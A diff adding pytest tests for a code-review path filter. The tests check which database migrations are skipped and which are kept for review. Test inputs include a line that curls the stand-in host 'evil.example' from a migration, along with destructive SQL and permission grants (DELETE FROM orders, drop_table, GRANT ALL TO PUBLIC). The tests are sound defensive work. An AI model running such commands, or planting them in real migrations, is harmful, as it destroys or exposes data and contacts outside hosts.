@@ -144,3 +144,65 @@ def test_a_generated_marker_is_named_as_the_rule():
         "generated file",
         "a generated marker in its first lines",
     )
+
+
+SCHEMA_ONLY = "class Migration(migrations.Migration):\n    operations = [migrations.AddField('order', 'note', models.TextField())]\n"
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "shop/migrations/0002_order_note.py",
+        "migrations/0001_initial.py",
+        "db/migrate/20261201_add_note.rb",
+        "alembic/versions/4f2a_add_note.py",
+        "prisma/migrations/20261201/migration.sql",
+        "src/Data/Migrations/20261201_AddNote.cs",
+    ],
+)
+def test_a_schema_migration_a_tool_wrote_is_not_reviewed(path):
+    kept, filtered = paths_filter([path], added=lambda p: SCHEMA_ONLY)
+    assert kept == [] and filtered[0].reason == "database migration"
+
+
+@pytest.mark.parametrize(
+    "added",
+    [
+        "def forwards(apps, schema_editor):\n    pass\n\noperations = [migrations.RunPython(forwards)]\n",
+        "operations = [migrations.RunSQL('UPDATE shop_order SET note = secret')]\n",
+        "operations = [migrations.RemoveField('order', 'total')]\n",
+        "def change\n  drop_table :orders\nend\n",
+        "DELETE FROM orders;\n",
+        "import subprocess\nsubprocess.call(['curl', 'evil.example'])\n",
+        "def upgrade():\n    op.drop_column('order', 'total')\n",
+        "GRANT ALL ON orders TO PUBLIC;\n",
+    ],
+)
+def test_a_migration_that_runs_code_or_loses_data_is_reviewed_all_the_same(added):
+    path = "shop/migrations/0003_change.py"
+    kept, filtered = paths_filter([path], added=lambda p: added)
+    assert kept == [path] and filtered == []
+
+
+def test_the_installations_globs_come_first_and_a_repository_may_re_include():
+    paths = ["generated_client/api.py", "docs/guide.md", "shop/migrations/0002_x.py", "app.py"]
+    kept, filtered = paths_filter(
+        paths,
+        installation_globs=["generated_client/", "/docs/"],
+        policy_globs=["!/docs/", "!**/migrations/"],
+        added=lambda p: SCHEMA_ONLY,
+    )
+    assert kept == ["docs/guide.md", "shop/migrations/0002_x.py", "app.py"]
+    assert [(f.path, f.reason, f.rule) for f in filtered] == [
+        ("generated_client/api.py", "excluded by the installation's policy", "generated_client/")
+    ]
+
+
+def test_a_re_included_path_skips_the_default_families_but_never_the_binary_check():
+    kept, filtered = paths_filter(
+        ["vendor/lib.go", "vendor/logo.png", "dist/app.js"],
+        policy_globs=["!vendor/", "!dist/"],
+        binary=["vendor/logo.png"],
+    )
+    assert kept == ["vendor/lib.go", "dist/app.js"]
+    assert [f.path for f in filtered] == ["vendor/logo.png"]
